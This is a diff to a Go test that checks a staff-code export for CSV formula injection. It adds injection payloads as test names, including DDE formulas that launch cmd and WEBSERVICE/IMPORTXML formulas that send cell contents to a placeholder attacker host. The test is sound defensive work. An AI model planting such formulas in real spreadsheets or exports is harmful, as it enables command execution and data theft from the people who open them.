@@ -357,7 +357,9 @@ func TestAuditSearch(t *testing.T) {
 // T43: whatever stands in a name, no cell of the export is a formula.
 func TestTheExportComputesNothing(t *testing.T) {
 	k := open(t)
-	signs := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "@SUM(1+1)*cmd", "+1+1", "-2+3", "=1\n=2", "\";=1;\"", "＝1+1", "%0A=1", "|calc", "\u00a0=1"}
+	signs := []string{"=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\")", "@SUM(1+1)*cmd", "+1+1", "-2+3", "=1\n=2", "\";=1;\"", "＝1+1", "%0A=1", "|calc", "\u00a0=1",
+		"=WEBSERVICE(\"https://evil.example/\"&A1)", "=IMPORTXML(CONCAT(\"https://evil.example/\",A1),\"//a\")", "=IMPORTRANGE(\"x\",\"a1\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=DDE(\"soffice\",\"x\",\"y\")",
+		"@=1", "+@=1", "-@=1", "--1", "++1", "=-1", "=+1", "= 1", "\v=1", "\f=1", "\u2003=1", "\ufeff=1", "\u200b=1", "=\"\"", "'=1", "\"=1\"", "，=1"}
 	for i, s := range signs {
 		b, _ := k.hire(s+fmt.Sprint("1+", i), "front_desk")
 		b.Get("/staff/codes")
@@ -378,12 +380,12 @@ func TestTheExportComputesNothing(t *testing.T) {
 			if strings.HasPrefix(cell, "'") {
 				armed++
 			}
-			if c := strings.TrimLeft(cell, " \u00a0"); c != "" && strings.ContainsRune("=+-@\t\r\n|%＝", []rune(c)[0]) {
+			if c := strings.TrimLeft(cell, " \u00a0\v\f\u2003\u200b\ufeff"); c != "" && strings.ContainsRune("=+-@\t\r\n|%＝", []rune(c)[0]) {
 				t.Errorf("a cell begins %q", cell)
 			}
 		}
 	}
-	if armed < len(signs)-2 {
+	if armed < len(signs)-4 {
 		t.Errorf("only %d cells were made harmless: the names are not in the export", armed)
 	}
 }
